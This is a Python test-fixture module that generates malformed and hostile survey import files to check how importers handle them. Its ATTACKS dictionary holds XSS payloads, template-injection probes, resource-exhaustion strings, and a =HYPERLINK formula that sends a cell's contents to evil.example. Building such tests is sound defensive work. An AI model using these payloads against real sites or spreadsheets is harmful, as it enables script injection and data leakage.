"""What can be done to a file of any format: cut, blown up, recoded, exchanged, and given texts that attack a page."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator

from tests.surveys.interchange.hostile.files import EITHER, READ, REFUSED, HostileFile
from tests.surveys.interchange.hostile.honest import HONEST, many

TEXT_FORMATS = [name for name in HONEST if name != "xlsform"]
_OTHER = {"moodle": "limesurvey", "limesurvey": "moodle", "xlsform": "surveyjs"}

ATTACKS = {
    "a script": "<script>alert(1)</script>Vraag",
    "a script in entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "a script cut in two": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "an event handler": '<img src=x onerror="alert(1)">Vraag <b onmouseover=alert(1)>hier</b>',
    "an attribute that ends": '"><input autofocus onfocus=alert(1) x="',
    "an attribute that ends with an apostrophe": "' onfocus='alert(1)' x='",
    "a live link": '<a href="javascript:alert(1)">Vraag</a> javascript:alert(1)',
    "templates": "{{ 7 * 7 }}{% raw %}{{ survey }}${7*7}#{7*7}<%= 7 %> vraag",
    "a place of an answer": "{eerste} {onbekend|x} {eerste.length} vraag",
    "a formula": '=HYPERLINK("https://evil.example/?x="&A1;"Klik")',
    "marks of direction and no width": "\u202evraag\u202c\u200b\u2066x\u2069\ufeff",
    "combining marks": "v" + "\u0301" * 3_000,
    "unfinished tags": "<a " * 30_000,
    "unfinished comments": "<!--" * 30_000,
    "a long word": "x" * 100_000,
}
MARKUP = {
    "unfinished tags": "<a ",
    "entities": "&amp;",
    "places": "{q1}",
    "places of LimeSurvey": "{INSERTANS:1X1X1}",
    "places of other systems": "${q1}",
    "piped text": "${q://QID1/ChoiceGroup/SelectedChoices}",
    "languages": '<span class="multilang" lang="nl">',
    "quotes": "\"'",
}
"""What may be slow to read, again and again."""


def any_format_files() -> Iterator[HostileFile]:
    """Yield every honest file, spoilt in every way, and with every attack in a text."""
    for name, make in HONEST.items():
        yield from _spoilt(name, make)
        for attack, text in ATTACKS.items():
            yield HostileFile(name, f"{attack} in a text", lambda make=make, text=text: make(text), EITHER)
        for what, piece in MARKUP.items():
            make_many = lambda name=name, piece=piece: many(name, piece * (20_000 // len(piece)), 400)  # noqa: E731
            yield HostileFile(name, f"{what} in 400 texts", make_many, EITHER)
    for name in TEXT_FORMATS:
        yield from _recoded(name, HONEST[name])


def _spoilt(name: str, make: Callable[[], bytes]) -> Iterator[HostileFile]:
    other = _OTHER.get(name, "xlsform")
    yield HostileFile(name, "nothing wrong with it", make, READ)
    yield HostileFile(name, "empty", lambda: b"")
    yield HostileFile(name, "only spaces", lambda: b" \t\r\n" * 1_000)
    yield HostileFile(name, "cut in the middle", lambda: make()[: len(make()) * 2 // 3], _when_cut(name))
    for megabytes in (50, 15):
        size = megabytes * 1_000_000
        yield HostileFile(name, f"{megabytes} MB", lambda size=size: make() + b" " * size, says="larger than")
    yield HostileFile(name, f"content of {other}", HONEST[other])
    yield HostileFile(name, "random bytes", lambda: random.Random(3).randbytes(200_000))
    yield HostileFile(name, "the same twice, one after the other", lambda: make() * 2, EITHER)


def _when_cut(name: str) -> str:
    # Rows have no end that could be missed: those before the cut are read.
    return READ if name == "limesurvey-tsv" else REFUSED


def _recoded(name: str, make: Callable[[], bytes]) -> Iterator[HostileFile]:
    yield HostileFile(name, "UTF-16 without its mark", lambda: make().decode().encode("utf-16-le"))
    yield HostileFile(
        name, "Latin 1 that says nothing of it", lambda: make().decode().encode("latin-1"), _in_latin(name)
    )
    yield HostileFile(name, "UTF-8 and Latin 1 mixed", lambda: make() + "<!-- é -->".encode("latin-1"), EITHER)
    yield HostileFile(name, "a NUL in a text", lambda: make().replace(b"Hoe", b"H\x00oe"), EITHER)
    yield HostileFile(name, "control characters in a text", lambda: make().replace(b"Hoe", b"\x1b[31mHoe\x07"), EITHER)
    yield HostileFile(
        name, "half a surrogate pair", lambda: make().replace(b"Hoe", b"H\xed\xa0\x80oe"), _in_latin(name)
    )


def _in_latin(name: str) -> str:
    return EITHER if name == "limesurvey-tsv" else REFUSED
